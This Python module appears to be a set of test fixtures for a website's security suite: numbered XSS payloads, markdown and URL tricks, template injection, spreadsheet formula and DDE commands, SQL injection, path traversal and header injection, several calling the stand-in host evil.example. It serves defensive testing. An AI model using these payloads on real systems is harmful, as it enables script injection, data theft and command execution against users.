"""Hostile texts (TRUST 5). Each calls ``trap(N)``, or a dialog, or a host that is not ours, if any part of it runs.

Written for this site: what its pages, its desk, its e-mails and its exports would have to get wrong. `marked` numbers
them, so that whatever fires tells which one it was. ``{n}`` is that number.
"""

#: Never a real host; a request to it is a hit.
EVIL = "//evil.example"

SCRIPT_TAGS = (
    "<script>trap({n})</script>",
    "<SCRIPT>trap({n})</SCRIPT>",
    "<ScRiPt >trap({n})</sCrIpT >",
    "<script\t>trap({n})</script\n>",
    "<script/x>trap({n})</script>",
    "<script src=//evil.example/{n}.js></script>",
    "<script src='data:text/javascript,trap({n})'></script>",
    "<script type=module>trap({n})</script>",
    "<script type='text/javascript' async defer>trap({n})</script>",
    "<<script>script>trap({n})<</script>/script>",
    "<scr<script>ipt>trap({n})</scr</script>ipt>",
    "<script>/*</script><script>*/trap({n})</script>",
    "<script>trap({n})//",
    "<script nonce=''>trap({n})</script>",
    "<script>window['tr'+'ap']({n})</script>",
    "<script>\\u0074rap({n})</script>",
    "<script>top.trap({n})</script>",
    "<noscript><script>trap({n})</script></noscript>",
    "<template><script>trap({n})</script></template>",
    "</template><script>trap({n})</script>",
)
CLOSERS = (
    "</title><script>trap({n})</script>",
    "</textarea><script>trap({n})</script>",
    "</style><script>trap({n})</script>",
    "</script><script>trap({n})</script>",
    "</noscript><script>trap({n})</script>",
    "</iframe><script>trap({n})</script>",
    "</option></select><script>trap({n})</script>",
    "</svg></math><script>trap({n})</script>",
    "</xmp></plaintext><script>trap({n})</script>",
    "--><script>trap({n})</script>",
    "--!><script>trap({n})</script>",
    "<!--><script>trap({n})</script>-->",
    "<!--<img src='--><img src=x onerror=trap({n})>'>",
    "]]><script>trap({n})</script>",
    "<![CDATA[<script>trap({n})</script>]]>",
    "<!-- {# comment #} --><script>trap({n})</script>",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>trap({n})</script>",
)
HANDLERS = (
    "<img src=x onerror=trap({n})>",
    "<img/src=x/onerror=trap({n})>",
    "<img src=x onerror\n=\ntrap({n})>",
    "<img src=x onerror=trap&#40;{n}&#41;>",
    "<img src=x onerror=&#x74;rap({n})>",
    "<img src=x:x onerror=eval(atob('dHJhcCgwKQ=='))>",
    "<IMG SRC=x OnErRoR=trap({n})>",
    '<img """><img src=x onerror=trap({n})>">',
    "<img src=x onload=trap({n}) onerror=trap({n})>",
    "<image src=x onerror=trap({n})>",
    "<body onload=trap({n})>",
    "<body onpageshow=trap({n})>",
    "<input autofocus onfocus=trap({n})>",
    "<select autofocus onfocus=trap({n})>",
    "<textarea autofocus onfocus=trap({n})>",
    "<button autofocus onfocus=trap({n})>b</button>",
    "<a href=# autofocus tabindex=1 onfocus=trap({n})>a</a>",
    "<div contenteditable autofocus onfocus=trap({n})>x</div>",
    "<details open ontoggle=trap({n})>",
    "<video src=x onerror=trap({n})></video>",
    "<video><source onerror=trap({n})></video>",
    "<audio src=x onerror=trap({n})>",
    "<marquee onstart=trap({n})>x</marquee>",
    "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=trap({n})>x</b>",
    "<b style=transition:1ms onfocus=trap({n}) tabindex=0 autofocus>x</b>",
    "<p onpointerrawupdate=trap({n})>x</p>",
    "<dialog open onbeforetoggle=trap({n})>x</dialog>",
    "<object data=x onerror=trap({n})>",
    "<link rel=stylesheet href=x onerror=trap({n})>",
    "<xss onafterscriptexecute=trap({n})><script>1</script>",
    "<iframe onload=trap({n})></iframe>",
    "<form oninput=trap({n})><input autofocus></form>",
)
BREAKOUTS = (
    '" onfocus=trap({n}) autofocus x="',
    "' onfocus=trap({n}) autofocus x='",
    '"><img src=x onerror=trap({n})>',
    "'><img src=x onerror=trap({n})>",
    "x onmouseover=trap({n}) autofocus onfocus=trap({n})",
    "` onerror=trap({n}) `",
    '"/><svg onload=trap({n})>',
    "&quot;><img src=x onerror=trap({n})>",
    "&#34; autofocus onfocus=trap({n}) &#34;",
    '\\"><img src=x onerror=trap({n})>',
    '" style="background:url(//evil.example/{n})" x="',
    '"} onerror="trap({n})',
    "';trap({n});//",
    '";trap({n});//',
    "\\';trap({n});//",
    "`${trap({n})}`",
    "</p><p onclick=trap({n}) id=x>",
    "0;trap({n})",
)
URLS = (
    "javascript:trap({n})",
    "JaVaScRiPt:trap({n})",
    " javascript:trap({n})",
    "java\tscript:trap({n})",
    "java\nscript:trap({n})",
    "\x01javascript:trap({n})",
    "javascript&colon;trap({n})",
    "javascript://evil.example/%0atrap({n})",
    "javascript:/*https://youtu.be/abc*/trap({n})",
    "data:text/html,<script>trap({n})</script>",
    "data:text/html;base64,PHNjcmlwdD50cmFwKDApPC9zY3JpcHQ+",
    "vbscript:trap({n})",
    "blob:https://evil.example/{n}",
    "//evil.example/{n}",
    'https://youtu.be/abc"onmouseover=trap({n})',
    "https://youtu.be/<script>trap({n})</script>",
    "view-source:javascript:trap({n})",
    'https:evil.example/{n}"><script>trap({n})</script>',
)
LINKS = (
    "<a href=javascript:trap({n}) autofocus>x</a>",
    "<a href=' javascript:trap({n})'>x</a>",
    "[a link](javascript:trap({n}))",
    "![a picture](javascript:trap({n}))",
    "![a picture](//evil.example/{n}.png)",
    "![x](x){onerror=trap({n})}",
    '[a](x "onmouseover=trap({n})")',
    "[ref]: javascript:trap({n})",
    "<javascript:trap({n})>",
    "[x](data:text/html,<script>trap({n})</script>)",
    "`<script>trap({n})</script>`",
    "```html\n<script>trap({n})</script>\n```",
    'https://example.com/"onmouseover="trap({n})',
    "http://example.com/?<script>trap({n})</script>",
    'me@example.com"><script>trap({n})</script>',
    "<form action=javascript:trap({n})><button autofocus>x</button></form>",
    "<button formaction=javascript:trap({n})>x</button>",
    "<meta http-equiv=refresh content='0;url=javascript:trap({n})'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<base href=//evil.example/{n}/>",
    "<area shape=default href=javascript:trap({n})>",
)
FRAMES = (
    "<iframe src=javascript:trap({n})></iframe>",
    "<iframe srcdoc='<script>top.trap({n})</script>'></iframe>",
    "<iframe srcdoc=&lt;script&gt;top.trap({n})&lt;/script&gt;></iframe>",
    "<iframe src='data:text/html,<script>parent.trap({n})</script>'></iframe>",
    "<iframe src=//evil.example/{n}></iframe>",
    "<embed src=javascript:trap({n})>",
    "<object data='data:text/html,<script>trap({n})</script>'></object>",
    "<frameset onload=trap({n})><frame src=javascript:trap({n})></frameset>",
    "<portal src=javascript:trap({n})></portal>",
)
SVG_AND_MATH = (
    "<svg onload=trap({n})>",
    "<svg/onload=trap({n})//",
    "<svg><script>trap({n})</script></svg>",
    "<svg><script href='data:,trap({n})'/></svg>",
    "<svg><animate onbegin=trap({n}) attributeName=x dur=1s>",
    "<svg><set onbegin=trap({n}) attributename=x to=y>",
    "<svg><a xlink:href=javascript:trap({n})><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=trap({n}) xmlns=\"http://www.w3.org/2000/svg\"/>#x'/></svg>",
    "<svg><foreignObject><img src=x onerror=trap({n})></foreignObject></svg>",
    "<svg><image href=x onerror=trap({n})></svg>",
    "<svg><style><img src=x onerror=trap({n})></style></svg>",
    "<math><mi xlink:href=javascript:trap({n})>x</mi></math>",
    "<math href=javascript:trap({n})>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:trap({n})>x</maction></math>",
)
MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=trap({n})&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=trap({n})>'>",
    "<noscript><p title='</noscript><img src=x onerror=trap({n})>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=trap({n})>",
    "<table><td background=javascript:trap({n})><img src=x onerror=trap({n})>",
    "<p><style><!--</style><script>trap({n})//--></script>",
    "<select><template><img src=x onerror=trap({n})></template></select>",
    "<xmp><p title='</xmp><img src=x onerror=trap({n})>'>",
    "<title><p title='</title><img src=x onerror=trap({n})>'>",
    "&lt;script&gt;trap({n})&lt;/script&gt;",
    "&amp;lt;script&amp;gt;trap({n})&amp;lt;/script&amp;gt;",
    "&#60;img src=x onerror=trap({n})&#62;",
    "%3Cscript%3Etrap({n})%3C/script%3E",
    "\\u003cscript\\u003etrap({n})\\u003c/script\\u003e",
    "\\x3cscript\\x3etrap({n})\\x3c/script\\x3e",
)
JSON_AND_TEMPLATES = (
    '</script><script>trap({n})</script><script type="application/ld+json">',
    '"}</script><script>trap({n})</script>',
    '"],"x":"</ScRiPt ><img src=x onerror=trap({n})>',
    "<!--<script>trap({n})",
    "{{ constructor.constructor('trap({n})')() }}",
    "{{7*7}}<b>trap({n})</b>",
    "{% include 'trap{n}' %}",
    "{% debug %}<script>trap({n})</script>",
    "{{ request.user.password }}<script>trap({n})</script>",
    "${trap({n})}",
    "#{trap({n})}",
    "<%= trap({n}) %>",
    "{{'x'|safe}}<img src=x onerror=trap({n})>",
    "%(trap)s {0.__class__} <img src=x onerror=trap({n})>",
)
STYLES = (
    "<style>*{background:url(//evil.example/{n})}</style>",
    "<style>@import '//evil.example/{n}.css';</style>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<link rel=prefetch href=//evil.example/{n}>",
    "<p style=background:url(//evil.example/{n})>x</p>",
    '<p style="width:expression(trap({n}))">x</p>',
    "<style>@font-face{font-family:x;src:url(//evil.example/{n})}*{font-family:x}</style>",
    "<img src=//evil.example/{n}.png>",
    "<img srcset='//evil.example/{n}.png 1x'>",
    "<p style='behavior:url(//evil.example/{n})'>x</p>",
)
LETTERS = (
    "\u202e<script>trap({n})</script>",
    "\u2066\u2067<img src=x onerror=trap({n})>\u2069",
    "<scr\u200bipt>trap({n})</scr\u200bipt>",
    "<\u00adscript>trap({n})</script>",
    "\uff1cscript\uff1etrap({n})\uff1c/script\uff1e",
    "\ufeff<script>trap({n})</script>",
    "<script\u2028>trap({n})</script\u2029>",
    "\u00bcscript\u00betrap({n})\u00bc/script\u00be",
    "\u02bb\u02bc\u2019\u201d onfocus=trap({n}) autofocus",
    "<\u017fcript>trap({n})</\u017fcript>",
    "<\u0130mg src=x onerror=trap({n})>",
    "+ADw-script+AD4-trap({n})+ADw-/script+AD4-",
    "\u0627<img src=x onerror=trap({n})>\u0627",
    "e\u0301\u0301\u0301<script>trap({n})</script>",
    "\U0001f600<script>trap({n})</script>",
    "\u2028';trap({n});//",
)
CELLS_AND_SQL = (
    '=HYPERLINK("http://evil.example/{n}","<script>trap({n})</script>")',
    "+cmd|' /C calc'!A{n}",
    "-2+3+cmd|'<img src=x onerror=trap({n})>'",
    "@SUM(1+1)*<script>trap({n})</script>",
    "\t=1+1<script>trap({n})</script>",
    "'); DROP TABLE forum_question; --<script>trap({n})</script>",
    "' OR 1=1 -- <img src=x onerror=trap({n})>",
    "../../../etc/passwd<script>trap({n})</script>",
    'x.png" onerror="trap({n})',
    "<img src=x onerror=trap({n})>.jpg",
    "Subject: x\r\nContent-Type: text/html\r\n\r\n<script>trap({n})</script>",
)

KINDS = {
    "script tags": SCRIPT_TAGS, "closers": CLOSERS, "handlers": HANDLERS, "breakouts": BREAKOUTS, "addresses": URLS,
    "links and markdown": LINKS, "frames": FRAMES, "SVG and MathML": SVG_AND_MATH, "mutations": MUTATIONS,
    "JSON and templates": JSON_AND_TEMPLATES, "styles": STYLES, "letters": LETTERS, "cells and SQL": CELLS_AND_SQL,
}  # fmt: skip


def _numbered() -> dict[str, tuple[str, ...]]:
    found: dict[str, tuple[str, ...]] = {}
    number = 0
    for kind, texts in KINDS.items():
        found[kind] = tuple(text.replace("{n}", str(number + at)) for at, text in enumerate(texts))
        number += len(texts)
    return found


NUMBERED = _numbered()
PAYLOADS = tuple(text for texts in NUMBERED.values() for text in texts)
ADDRESSES = NUMBERED["addresses"]
#: All of them as one text, each in a paragraph of its own.
BUNDLE = "\n\n".join(PAYLOADS)
